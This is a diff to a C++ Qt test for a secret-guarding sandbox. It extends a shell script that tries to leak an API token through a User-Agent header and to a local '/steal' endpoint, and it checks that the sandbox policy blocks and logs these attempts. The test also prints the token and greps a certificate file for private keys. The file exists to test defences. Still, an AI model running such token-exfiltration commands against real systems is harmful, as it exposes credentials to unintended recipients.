@@ -164,19 +164,23 @@ private Q_SLOTS:
         const QByteArray port = m_port;
         // Plain string literals for the URLs: moc reads two slashes in a raw string as a comment.
         const QByteArray local = "https://localhost:" + port;
-        const QByteArray script = "printenv API_TOKEN | cut -c1-19\n"
-                                  "echo \"whole: $API_TOKEN\"\n"
-                                  "grep -c 'PRIVATE KEY' /etc/cordon/ca-certificates.crt\n"
-                                  "curl -sS " +
-                                  local +
-                                  "/v1 -H \"Authorization: Bearer $API_TOKEN\"; echo\n"
-                                  "python3 -c 'import os, urllib.request\n"
-                                  "request = urllib.request.Request(\"" +
-                                  local +
-                                  "/py\", headers={\"X-Api-Key\": os.environ[\"API_TOKEN\"]})\n"
-                                  "print(urllib.request.urlopen(request, timeout=20).read().decode())'\n"
-                                  "curl -s http://127.0.0.1:" +
-                                  port + "/steal -H \"X-Stolen: $API_TOKEN\"; echo\n";
+        const QByteArray script =
+            "printenv API_TOKEN | cut -c1-19\n"
+            "echo \"whole: $API_TOKEN\"\n"
+            "grep -c 'PRIVATE KEY' /etc/cordon/ca-certificates.crt\n"
+            "curl -sS " +
+            local +
+            "/v1 -H \"Authorization: Bearer $API_TOKEN\"; echo\n"
+            "python3 -c 'import os, urllib.request\n"
+            "request = urllib.request.Request(\"" +
+            local +
+            "/py\", headers={\"authorization\": \"Token \" + os.environ[\"API_TOKEN\"]})\n"
+            "print(urllib.request.urlopen(request, timeout=20).read().decode())'\n"
+            "curl -sS " +
+            local +
+            "/ua -A \"agent $API_TOKEN\" -H \"Authorization: Bearer $API_TOKEN\"; echo\n"
+            "curl -s http://127.0.0.1:" +
+            port + "/steal -H \"X-Stolen: $API_TOKEN\"; echo\n";
         const CliResult run = sh(m_container, script);
         QVERIFY2(run.status == 0, run.describe());
         // The sandbox holds a placeholder, masked where the run prints it whole; the bundle has no key.
@@ -186,13 +190,20 @@ private Q_SLOTS:
         QVERIFY2(
             run.out.contains("blocked by sandbox policy: secret API_TOKEN may only be sent to localhost"),
             run.describe());
+        // Only into its header (Authorization by default): a User-Agent, which servers log and echo,
+        // refuses the whole request, even beside a rightful Authorization.
+        QVERIFY2(
+            run.out.contains("blocked by sandbox policy: secret API_TOKEN goes only in the authorization "
+                             "header, not in user-agent"),
+            run.describe());
 
         // What arrived: the value in both requests to localhost, never the placeholder, nothing at /steal.
         const QByteArray log = serverLog();
         QVERIFY2(log.contains(QByteArray("Authorization: Bearer " + Value + "\n")), log.constData());
-        QVERIFY2(log.contains(QByteArray("X-Api-Key: " + Value + "\n")), log.constData());
+        QVERIFY2(log.contains(QByteArray("Authorization: Token " + Value + "\n")), log.constData());
         QVERIFY(!log.contains("cordon-placeholder"));
         QVERIFY(!log.contains("/steal"));
+        QVERIFY(!log.contains("/ua"));
 
         // Recorded: where the secret went, and the attempt to send it elsewhere.
         const CliResult allowed =
